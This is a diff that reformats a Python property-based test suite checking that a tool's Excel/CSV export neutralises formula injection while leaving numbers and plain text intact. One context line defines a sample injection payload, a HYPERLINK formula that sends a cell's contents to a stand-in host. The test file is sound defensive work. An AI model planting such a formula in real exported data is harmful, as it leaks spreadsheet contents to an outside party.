@@ -17,10 +17,20 @@ NUMBER = re.compile(r"-?\d+(\.\d+)?")
 FORMULA = '=HYPERLINK("http://voorbeeld.invalid/?"&A1)'
 
 risky = st.builds(
-    "".join, st.tuples(st.sampled_from(["", " ", "\t", "\u00a0", "\r\n "]), st.sampled_from(BEGINS), st.text())
+    "".join,
+    st.tuples(
+        st.sampled_from(["", " ", "\t", "\u00a0", "\r\n "]), st.sampled_from(BEGINS), st.text()
+    ),
 )
 texts = st.text() | risky
-cells = st.none() | st.booleans() | texts | st.lists(texts) | st.tuples(texts, texts) | st.lists(st.lists(texts))
+cells = (
+    st.none()
+    | st.booleans()
+    | texts
+    | st.lists(texts)
+    | st.tuples(texts, texts)
+    | st.lists(st.lists(texts))
+)
 
 
 def read(out: str) -> list[list[str]]:
@@ -40,10 +50,16 @@ def test_a_number_stays_a_number(number: float) -> None:
     assert read(excel([{"a": number}], ("a",)))[1] == [str(number)]
 
 
-@given(st.text(alphabet=st.characters(categories=["L", "N"])) | st.sampled_from(["0182-589315", "a=b", "€ 300.000,-"]))
+@given(
+    st.text(alphabet=st.characters(categories=["L", "N"]))
+    | st.sampled_from(["0182-589315", "a=b", "€ 300.000,-"])
+)
 def test_other_text_is_left_alone(text: str) -> None:
     plain = " ".join(text.split())
-    assert [cell for row in read(excel([{"a": text, "b": 1}], ("a", "b")))[1:] for cell in row] == [plain, "1"]
+    assert [cell for row in read(excel([{"a": text, "b": 1}], ("a", "b")))[1:] for cell in row] == [
+        plain,
+        "1",
+    ]
 
 
 @pytest.fixture
@@ -81,9 +97,13 @@ def spoiled(data: Path) -> Path:
     ],
     ids=lambda value: " ".join(value) if isinstance(value, list) else "",
 )
-def test_no_command_gives_a_formula(adv: Adv, spoiled: Path, arguments: list[str], there: bool) -> None:
+def test_no_command_gives_a_formula(
+    adv: Adv, spoiled: Path, arguments: list[str], there: bool
+) -> None:
     result = adv(*arguments, "--excel", "--data", str(spoiled))
     assert result.code == 0
     found = [cell for row in read(result.out) for cell in row]
-    assert not [cell for cell in found if cell.lstrip().startswith(BEGINS) and not NUMBER.fullmatch(cell)]
+    assert not [
+        cell for cell in found if cell.lstrip().startswith(BEGINS) and not NUMBER.fullmatch(cell)
+    ]
     assert any(cell.startswith(("'=", "'＋")) for cell in found) == there
